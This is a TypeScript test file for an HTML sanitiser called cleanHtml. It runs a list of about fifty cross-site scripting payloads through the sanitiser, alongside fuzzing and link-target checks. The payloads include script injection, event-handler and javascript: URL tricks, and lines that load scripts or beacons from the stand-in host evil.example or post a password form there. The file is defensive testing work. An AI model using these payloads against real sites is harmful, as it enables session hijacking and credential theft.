import fc from 'fast-check'
import { cleanHtml } from '@/lib/message/clean'
import { HOSTILE_TEXTS } from '../support/hostile-corpus'

/** As many as a minute takes; all hundred thousand of safety B-01 with CLEAN_RUNS=100000. A failure names its seed. */
const RUNS = Number(process.env.CLEAN_RUNS ?? 20_000)
const SEED = Number(process.env.CLEAN_SEED ?? 20_261_121)

/** Ways in which HTML has run scripts, loaded strangers' files or broken out of its place. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/beacon.gif">',
  '<img src="//evil.example/beacon.gif">',
  '<img src="/\\evil.example/x">',
  '<img srcset="https://evil.example/a 1x" src="/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp></xmp><script>alert(1)</script>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example" ping="https://evil.example">x</a>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p class="ask" id="logout-ask" onclick="alert(1)">x</p>',
  '<div popover id=side>x</div>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><script>alert(1)</script></option></select>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video src="https://evil.example/x.mp4" autoplay onplay=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>unclosed <b>bold <a href="https://ok.example">x',
]

const ALLOWED =
  /<\/?(p|br|b|strong|i|em|u|s|h[1-6]|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|a|img|span)(?=[\s>/])/gi

/** Markup that remains after removing the allowed tags: none may remain. */
const strangeTags = (html: string): string => (html.replace(ALLOWED, '').match(/<[a-z!?/][^>]*/gi) ?? []).join()
const attributes = (html: string): string[] =>
  [...html.matchAll(/<[a-z0-9]+((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)].flatMap(([, text = '']) =>
    [...text.matchAll(/\s([a-z-]+)=/gi)].map(([, name = '']) => name),
  )

test.each(PAYLOADS)('%s leaves nothing that runs or loads', (payload) => {
  const clean = cleanHtml(payload)
  expect(strangeTags(clean)).toBe('')
  expect(attributes(clean).filter((name) => !['href', 'rel', 'target', 'src', 'alt'].includes(name))).toEqual([])
  expect(clean).not.toMatch(/(href|src)="(?!https:|mailto:|\/(?![/\\]))/i)
  expect(clean).not.toMatch(/<img[^>]+evil/i)
})

test('what an announcement is written with stays', () => {
  const html =
    '<h2>放假通知</h2><p>From <b>1 May</b>:<br /></p><ul><li>a</li></ul><table><tbody><tr><td>x</td></tr></tbody></table>'
  expect(cleanHtml(html)).toBe(html)
})

test('links leave without their opener, and our own pictures stay', () => {
  expect(cleanHtml('<a href="https://gov.uk">x</a>')).toBe(
    '<a href="https://gov.uk" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  )
  const own = '<img src="/api/files/picture/0f0e?size=400" alt="x" />'
  expect(cleanHtml(own)).toBe(own)
  expect(cleanHtml('<img src="https://media.example/a" />', ['https://media.example'])).toContain('media.example')
})

test.each(['/api/session/logout', '/api/files/picture/../../x', '/api/files/picture/a/b', '/a.png', 'a.png'])(
  'an address of ours that is no stored picture is none: %s',
  (source) => expect(cleanHtml(`<p>x<img src="${source}"></p>`)).toBe('<p>x</p>'),
)

const piece = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.constantFrom(
    '<',
    '>',
    '</',
    '"',
    "'",
    '&',
    '&lt;',
    '&#',
    '<!--',
    '-->',
    '<a href="',
    '<img src="/',
    '<p>',
    '</p>',
    '<b',
    '=',
    '\0',
  ),
  fc.string({ maxLength: 12 }),
)

test('a link leads to https, a mailbox or a path of ours, or nowhere', () => {
  const elsewhere = ['/%5cevil.example', '/%5Cevil.example', '/%2fevil.example', '/a/%2F%2Fevil.example', '/%09/evil']
  const named = ['https://user@evil.example', 'https://ok.example\\@evil.example', 'https:/evil.example', 'https://']
  const other = [
    'java',
    '?x',
    '#x',
    '"><svg>',
    'http://plain.example',
    'ftp://x',
    './x',
    '../x',
    '\\\\x',
    '/a/..//evil',
  ]
  for (const href of [...other, ...elsewhere, ...named])
    expect(cleanHtml(`<a href='${href}'>x</a>`)).not.toContain('href')
  expect(cleanHtml('<a href="/order/list">x</a>')).toContain('href="/order/list"')
})

test(
  'cleaning twice is cleaning once, for any input (B-01)',
  () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = cleanHtml(pieces.join(''))
        expect(cleanHtml(once)).toBe(once)
        expect(strangeTags(once)).toBe('')
      }),
      { numRuns: RUNS, seed: SEED },
    )
  },
  15 * 60_000,
)
